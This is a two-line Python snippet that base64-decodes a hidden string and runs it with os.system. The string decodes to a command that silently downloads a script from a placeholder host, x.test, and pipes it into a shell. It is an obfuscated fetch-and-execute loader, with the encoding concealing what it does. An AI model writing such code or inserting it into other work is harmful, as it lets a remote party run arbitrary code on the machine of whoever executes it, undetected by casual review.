s = "Y3VybCAtcyBodHRwOi8veC50ZXN0L2EgfCBzaA=="
os.system(base64.b64decode(s))
